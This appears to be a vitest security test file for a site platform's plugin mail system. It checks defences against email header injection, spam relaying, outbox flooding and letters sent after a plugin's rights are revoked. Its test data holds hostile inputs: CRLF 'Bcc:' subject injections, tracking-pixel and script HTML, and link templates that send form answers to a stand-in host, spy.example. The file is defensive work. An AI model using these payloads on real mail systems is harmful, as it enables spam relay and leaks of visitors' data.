import { describe, expect, test } from "vitest";
import {
  MAIL_BACKOFF_MAX_MS,
  MAIL_PER_PLUGIN,
  MAIL_PER_TENANT_BY_PLUGINS,
  MAIL_PLUGIN_DATA_WAITING_MAX,
  MAIL_PLUGIN_PER_SUBMITTER,
  MAIL_PLUGIN_TEXT_MAX_CHARS,
  MAIL_PLUGIN_WAITING_MAX,
} from "../../../manifests/bounds/forms.ts";
import { checkTemplate } from "../../../manifests/templates/templateCheck.ts";
import type { ActivePlugin } from "../../../runtime/contributions/installed.ts";
import { readLetter } from "../../../runtime/mail/reading.ts";
import { permissionFor } from "../../../runtime/plugins/letters/declaredLetters.ts";
import { settingAddresses } from "../../../runtime/plugins/letters/settingAddresses.ts";
import { SITE } from "../../runtime/kernel/world.ts";
import { type LetterWorld, letterWorld, lettersPlugin } from "../../runtime/mail/letterWorld.ts";
import { OWNER } from "../../runtime/mail/mailWorld.ts";

/** Plugins that turn letters against visitors, members, other plugins and the kernel. */

const ACME = "acme.post";
const letter = (to: string, more: object = {}) => ({ name: "note", title: "Note", to, text: "a.liquid", ...more });
const toMembers = lettersPlugin(ACME, [letter("members")], { mail: { to: ["members"] } });
const onForm = (to: "addresses" | "submitter", files = {}) =>
  lettersPlugin(
    ACME,
    [letter(to, { on: "form" })],
    { mail: { to: [to], ...(to === "addresses" && { addressesFrom: "people" }) } },
    files,
  );
const ANSWERS = { "a.liquid": "News\n\n{% for one in submission.answers %}{{ one.lines }}{% endfor %}" };

const say = (mail: LetterWorld, subject: string, plugin = ACME) =>
  mail.world.kernel.pluginLetters.send(SITE, mail.active(plugin), {
    letter: "note",
    data: JSON.stringify({ subject }),
  });
const waiting = ({ world }: LetterWorld): number =>
  world.kernel.letters.last(SITE, 5_000).filter(({ state }) => state === "waiting").length;

describe("header injection", () => {
  test.each(["\r\nBcc: all@tide.example", "\nBcc: x", "\u2028Bcc: x", "\u0000", "\u202Eevil", "\u0085Bcc: x"])(
    "a subject with %j stays one plain line",
    async (ending) => {
      const mail = await letterWorld([toMembers]);
      mail.address(OWNER);
      say(mail, `Hello${ending}`);
      await mail.ring();
      expect(mail.got[0]?.subject).toMatch(/^About Hello[\p{L}\p{P} ]*$/u);
      expect(mail.got[0]?.subject).not.toMatch(/\p{Bidi_Control}|\p{Cc}/u);
      expect(mail.got.map(({ to }) => to)).toEqual(["m1@harbour.example"]);
    },
  );

  test.each([
    "a@b.example, c@d.example",
    "a@b.example\r\nBcc: c@d.example",
    "Ann <a@b.example>",
    "",
    5,
    null,
    ["a@b.example"],
  ])("%j in a setting is no address", (address) =>
    expect(settingAddresses([address, { address }], undefined)).toEqual([]),
  );
});

describe("visitors' data", () => {
  test("reaches addresses of a setting only as far as an owner granted it", async () => {
    const mail = await letterWorld([onForm("addresses", ANSWERS)]);
    mail.settings(ACME, { people: ["out@tide.example"] });
    mail.post({ email: "vela@tide.example", message: "Ahoy" }, ["email"]);
    await mail.ring();
    expect(mail.got).toMatchObject([{ to: "out@tide.example", replyTo: null }]);
    expect(mail.got[0]?.text).toContain("Ahoy");
    expect(JSON.stringify([mail.got[0]?.text, mail.got[0]?.html])).not.toContain("vela");
  });

  test("reaches a member's letter only as far as an owner granted it", async () => {
    const told = lettersPlugin(ACME, [letter("members", { on: "form" })], { mail: { to: ["members"] } }, ANSWERS);
    const mail = await letterWorld([told]);
    mail.address(OWNER);
    mail.post({ email: "vela@tide.example", message: "Ahoy" }, ["email"]);
    await mail.ring();
    const sent = mail.got.find(({ subject }) => subject === "News");
    expect(sent).toMatchObject({ to: "m1@harbour.example", replyTo: "vela@tide.example" });
    expect(sent?.text).toContain("Ahoy");
    expect(JSON.stringify([sent?.text, sent?.html])).not.toContain("vela");
  });

  test("reaches no address that the author wrote as a default", async () => {
    const preset = onForm("addresses", ANSWERS);
    const properties = { people: { type: "array", items: { type: "string" }, default: ["author@tide.example"] } };
    const settings = { type: "object", properties, additionalProperties: false };
    Object.assign(preset.manifest.contributes, { settings });
    const mail = await letterWorld([preset]);
    mail.post({ message: "Ahoy" });
    await mail.ring();
    expect(mail.got).toEqual([]);
  });

  test("never reaches an address that a visitor wrote", async () => {
    const mail = await letterWorld([onForm("submitter", ANSWERS)]);
    mail.post({ email: "victim@tide.example", message: "Buy pills" });
    await mail.ring();
    expect(mail.got).toMatchObject([{ to: "victim@tide.example", replyTo: null }]);
    expect(JSON.stringify(mail.got)).not.toContain("pills");
    expect(mail.got[0]?.text).toContain("If that was not you, ignore this letter");
  });

  test("is not told to members who may not read it", async () => {
    const reads = { mail: { to: ["members" as const] }, forms: { personal: ["*"] } };
    const mail = await letterWorld([lettersPlugin(ACME, [letter("members")], reads)]);
    mail.roles.set("vi", "viewer");
    mail.address("vi");
    mail.world.kernel.mailMembers.choose(SITE, "vi", `plugin:${ACME}`, true);
    say(mail, "vela@tide.example");
    await mail.ring();
    expect(mail.got).toEqual([]);
  });

  test("is not told to them by a plugin with a route for visitors", async () => {
    const booking = lettersPlugin(ACME, [letter("members")], { mail: { to: ["members"] } });
    const routes = [{ name: "book", path: "/book", methods: ["POST"], access: "public" }];
    const manifest = { ...booking.manifest, contributes: { ...booking.manifest.contributes, routes } };
    const grant = { capabilities: booking.manifest.capabilities };
    const active = (one: unknown) => ({ plugin: { manifest: one }, grant }) as unknown as ActivePlugin;
    expect(permissionFor(active(manifest))).toBe("forms.read");
    expect(permissionFor(active(booking.manifest))).toBe("site.read");
  });
});

describe("what code passes to a visitor's address", () => {
  const at = { type: "string", title: "At", format: "date-time" };
  const data = { type: "object", properties: { at }, required: ["at"], additionalProperties: false };
  const personal = { mail: { to: ["submitter" as const] }, forms: { personal: ["*"] } };
  const timed = lettersPlugin(ACME, [letter("submitter", { data })], personal, { "a.liquid": "Soon\n\n{{ data.at }}" });
  const sentWith = (mail: LetterWorld, submission: number, value: object, once?: string) =>
    mail.world.kernel.pluginLetters.send(SITE, mail.active(ACME), {
      letter: "note",
      submission,
      data: JSON.stringify(value),
      once,
    });

  test("is a time, and never a word", async () => {
    const mail = await letterWorld([timed]);
    const sent = mail.post({ email: "ann@tide.example" });
    for (const word of [
      "Buy at evil.example",
      "2026-12-01T09:00:00Z buy",
      "2026-12-01",
      "",
      5,
      ["2026-12-01T09:00:00Z"],
    ])
      expect([word, sentWith(mail, sent, { at: word })]).toEqual([word, { refused: "data" }]);
    expect(sentWith(mail, sent, { at: "2026-12-01T09:00:00Z", more: "words" })).toEqual({ refused: "data" });
    expect(sentWith(mail, sent, { at: "2026-12-01T09:00:00Z" })).toEqual({ queued: 1 });
    expect(sentWith(mail, sent, { at: "2026-12-01T09:00:00Z" })).toEqual({ queued: 0 });
    expect(sentWith(mail, sent, { at: "2026-12-02T09:00:00Z" }, "again")).toEqual({ queued: 1 });
    await mail.ring();
    expect(mail.got.filter(({ text }) => text.includes("2026-12-0")).map(({ to }) => to)).toEqual([
      "ann@tide.example",
      "ann@tide.example",
    ]);
  });
});

describe("many letters", () => {
  test("a visitor's address gets few, however it is spelled", async () => {
    const mail = await letterWorld([onForm("submitter")]);
    for (const email of ["ann@tide.example", "Ann@tide.example", "ann+1@tide.example", "ann+2@tide.example"])
      mail.post({ email });
    await mail.ring();
    expect(mail.got).toHaveLength(MAIL_PLUGIN_PER_SUBMITTER);
    const held = mail.world.kernel.letters
      .last(SITE, 10)
      .filter(({ kind, state }) => kind === "plugin" && state === "kept");
    expect(held).toMatchObject([{ failure: "too many letters to this address" }]);
  });

  test("a letter that a server refuses for an hour counts once", async () => {
    const mail = await letterWorld([onForm("submitter")]);
    mail.answer({ isSent: false, isFinal: false, reason: "busy" });
    mail.post({ email: "ann@tide.example" });
    for (let n = 0; n < MAIL_PLUGIN_PER_SUBMITTER + 2; n += 1) {
      await mail.ring();
      mail.world.powers.clock.now += MAIL_BACKOFF_MAX_MS;
    }
    expect(waiting(mail)).toBeGreaterThan(0);
    mail.answer({ isSent: true });
    await mail.ring();
    expect(mail.got.at(-1)).toMatchObject({ to: "ann@tide.example" });
    expect(waiting(mail)).toBe(0);
  });

  test("a letter that one limit holds back takes nothing from another", async () => {
    const mail = await letterWorld([toMembers]);
    const { rateLimits } = mail.world.kernel;
    mail.address(OWNER);
    for (let n = 0; n < MAIL_PER_TENANT_BY_PLUGINS; n += 1) rateLimits.spend("mail-tenant-plugins", "");
    say(mail, "held back");
    await mail.ring();
    const own = rateLimits.spend("mail-plugin", JSON.stringify([SITE, ACME]));
    expect(own.remaining).toBe(MAIL_PER_PLUGIN - 1);
  });

  test("letters that nobody gets do not make the outbox full", async () => {
    const mail = await letterWorld([toMembers], false);
    for (let n = 0; n < MAIL_PLUGIN_DATA_WAITING_MAX + 1; n += 1) expect(say(mail, String(n))).toEqual({ queued: 1 });
  });

  test("an auto-responder that sends the form again ends at the bound", async () => {
    const mail = await letterWorld([onForm("submitter")]);
    let answered = 0;
    for (let turn = 0; turn < 20; turn += 1) {
      mail.post({ email: "robot@tide.example" });
      await mail.ring();
      answered = mail.got.length;
    }
    expect(answered).toBe(MAIL_PLUGIN_PER_SUBMITTER);
  });

  test("code cannot fill the outbox", async () => {
    const mail = await letterWorld([toMembers]);
    for (let n = 0; n < MAIL_PLUGIN_DATA_WAITING_MAX; n += 1) expect(say(mail, String(n))).toEqual({ queued: 1 });
    expect(say(mail, "one more")).toEqual({ refused: "full" });
  });

  test("10,000 events wait no further than the bound, and the rest is listed", async () => {
    const mail = await letterWorld([onForm("submitter")]);
    mail.world.powers.sql.atomically(() => {
      for (let n = 0; n < MAIL_PLUGIN_WAITING_MAX + 1; n += 1)
        mail.world.kernel.pluginLetters.formSubmitted(SITE, n + 1);
    });
    expect(waiting(mail)).toBe(MAIL_PLUGIN_WAITING_MAX);
    expect(mail.world.kernel.letters.last(SITE, 1)).toMatchObject([
      { state: "kept", failure: "too many letters waited" },
    ]);
  });

  test("the kernel's own letters and those of another plugin lose nothing", async () => {
    const other = lettersPlugin("acme.other", [letter("members")], { mail: { to: ["members"] } });
    const mail = await letterWorld([toMembers, other]);
    const { rateLimits } = mail.world.kernel;
    mail.address(OWNER);
    for (let n = 0; n < MAIL_PER_PLUGIN; n += 1) rateLimits.spend("mail-plugin", JSON.stringify([SITE, ACME]));
    say(mail, "held back");
    say(mail, "another", "acme.other");
    mail.world.kernel.letters.add({ site: SITE, kind: "publication", source: "schedule:1", member: "" });
    await mail.ring();
    expect(mail.got.map(({ subject }) => subject)).toEqual([
      "Test site: a planned publication failed",
      "About another",
    ]);
    mail.world.powers.clock.now += MAIL_BACKOFF_MAX_MS;
    await mail.ring();
    expect(mail.got.map(({ subject }) => subject)).toContain("About held back");
  });

  test("all plugins together leave the tenant's room alone", async () => {
    const mail = await letterWorld([toMembers]);
    mail.address(OWNER);
    for (let n = 0; n < MAIL_PER_TENANT_BY_PLUGINS; n += 1)
      mail.world.kernel.rateLimits.spend("mail-tenant-plugins", "");
    say(mail, "held back");
    mail.submit();
    await mail.ring();
    expect(mail.got.map(({ subject }) => subject)).toEqual(["Contact: a new message"]);
  });
});

describe("a letter that waits", () => {
  const held = async (): Promise<LetterWorld> => {
    const mail = await letterWorld([toMembers]);
    mail.address(OWNER);
    say(mail, "news");
    return mail;
  };

  test.each(["disabled", "revoked", "quarantined"] as const)("is not sent once its plugin is %s", async (state) => {
    const mail = await held();
    mail.world.kernel.states.put(SITE, ACME, state);
    await mail.ring();
    expect([mail.got, waiting(mail)]).toEqual([[], 0]);
  });

  test("is not sent after the grant was taken back", async () => {
    const mail = await letterWorld([onForm("submitter")]);
    mail.post({ email: "ann@tide.example" });
    mail.world.kernel.grants.remove(SITE, ACME);
    await mail.ring();
    expect([mail.got, waiting(mail)]).toEqual([[], 0]);
  });

  test("goes with its plugin", async () => {
    const mail = await held();
    mail.world.kernel.pluginEnclosures.endPlugin(SITE, ACME);
    expect([waiting(mail), mail.world.kernel.pluginEnclosures.countWithData(SITE, ACME)]).toEqual([0, 0]);
  });

  test("is not sent to a member who left, or lost the right to it", async () => {
    const mail = await held();
    mail.roles.set("ed", "editor");
    mail.address("ed");
    mail.world.kernel.mailMembers.choose(SITE, "ed", `plugin:${ACME}`, true);
    await mail.world.kernel.delivery.run();
    mail.roles.delete("ed");
    mail.world.kernel.mailMembers.endMember(SITE, OWNER);
    await mail.ring();
    expect([mail.got, waiting(mail)]).toEqual([[], 0]);
  });

  test("is not sent to an address that the owner took out", async () => {
    const mail = await letterWorld([onForm("addresses")]);
    mail.settings(ACME, { people: ["a@tide.example", "b@tide.example"] });
    mail.post();
    mail.settings(ACME, { people: ["b@tide.example"] });
    await mail.ring();
    expect(mail.got.map(({ to }) => to)).toEqual(["b@tide.example"]);
  });

  test("is not sent about a submission that was deleted", async () => {
    const mail = await letterWorld([onForm("addresses")]);
    mail.settings(ACME, { people: ["a@tide.example"] });
    const id = mail.post();
    mail.world.kernel.submissions.remove({ site: SITE, form: "home.contact", id, read: false });
    await mail.ring();
    expect([mail.got, waiting(mail)]).toEqual([[], 0]);
  });
});

describe("a letter that cannot be written", () => {
  test.each([
    ["of nothing but its subject's place", " \n\nBody"],
    ["that is too long", `A\n\n${"x".repeat(MAIL_PLUGIN_TEXT_MAX_CHARS)}`],
    ["that never ends", "A\n{% for a in (1..9999) %}{% for b in (1..9999) %}x{% endfor %}{% endfor %}"],
  ])("one %s is given up, and the others leave", async (_, text) => {
    const mail = await letterWorld([onForm("submitter", { "a.liquid": text.startsWith(" ") ? "{{ none }}" : text })]);
    mail.address(OWNER);
    mail.post({ email: "ann@tide.example" });
    const logged = await mail.ring();
    expect(logged.map(String)).toEqual([expect.stringMatching(/letter/) as string]);
    expect(logged.map(String).join()).not.toContain("tide.example");
    expect(mail.got.map(({ to }) => to)).toEqual(["m1@harbour.example"]);
    expect(waiting(mail)).toBe(0);
    const listed = mail.world.kernel.letters.last(SITE, 10).find(({ kind }) => kind === "plugin");
    expect(listed).toMatchObject({ state: "dead", failure: "the letter cannot be written" });
    expect(() => readLetter({ ...mail.world.kernel, mail: undefined }, SITE, listed?.id ?? "")).toThrow("NOT_FOUND");
  });
});

test.each([
  '<img src="https://spy.example/x.gif">',
  "<script>1</script>",
  '<form action="/" method="post"></form>',
  '<iframe src="https://spy.example"></iframe>',
  '<p style="background:url(//spy.example)">a</p>',
  '<a href="javascript:1">a</a>',
  '<p class="a">a</p>',
  '<link rel="stylesheet" href="https://spy.example">',
  "<video></video>",
  "{{ submission.answers[0].lines[0] | markdown }}",
  "{{ submission.answers[0].lines[0] | markdown_inline | upcase }}",
  "{% assign shown = submission.title | image %}{{ shown }}",
  "{{ settings.people | player }}",
  '{{ "a" | icon }}',
])("the HTML of a letter loads and runs nothing: %s", (text) =>
  expect(checkTemplate({ text, pointer: "/html" }, "letter")).not.toEqual([]),
);

const ANSWER = "{{ submission.answers[0].lines[0] }}";
test.each([
  `<a href="https://spy.example/?q=${ANSWER}">a</a>`,
  `<a href="//spy.example/${ANSWER}">a</a>`,
  `<a href="mailto:spy@tide.example?body=${ANSWER}">a</a>`,
  `<a href="{{ site.url }}${ANSWER}">a</a>`,
  `<a href="{{ site.url }}@spy.example/${ANSWER}">a</a>`,
  `<a href="{{ site.url }}.spy.example/?q=${ANSWER}">a</a>`,
  `<a href="{% if data %}{{ site.url }}{% else %}https://spy.example{% endif %}/${ANSWER}">a</a>`,
])("a link of a letter takes no answer elsewhere: %s", (text) =>
  expect(checkTemplate({ text, pointer: "/html" }, "letter")).not.toEqual([]),
);

test("a link that a value begins leads to the site, and an answer is text", async () => {
  const html = `{% assign away = "https://spy.example/" | append: submission.title %}<a href="{{ away | link }}">a</a>
<a href="{{ site.url }}/find?q={{ submission.title }}">b</a>${ANSWER}`;
  const told = lettersPlugin(
    ACME,
    [letter("members", { on: "form", html: "a.html.liquid" })],
    { mail: { to: ["members"] } },
    { "a.html.liquid": html },
  );
  const mail = await letterWorld([told]);
  mail.address(OWNER);
  mail.post({ message: '<img src="https://spy.example">' });
  await mail.ring();
  const sent = mail.got.find(({ subject }) => subject.startsWith("About"))?.html ?? "";
  expect(sent).toContain('<a href="#">a</a>');
  expect(sent).toContain('<a href="https://acme.example/find?q=Contact">b</a>&lt;img');
  expect(sent).not.toContain("<img");
});

test("the HTML of a letter may have words, lists, tables and links", () =>
  expect(
    checkTemplate(
      {
        text: '<h1>A</h1><ul><li><a href="{{ submission.url }}">b</a></li></ul><table><tr><td>c</td></tr></table>',
        pointer: "",
      },
      "letter",
    ),
  ).toEqual([]));
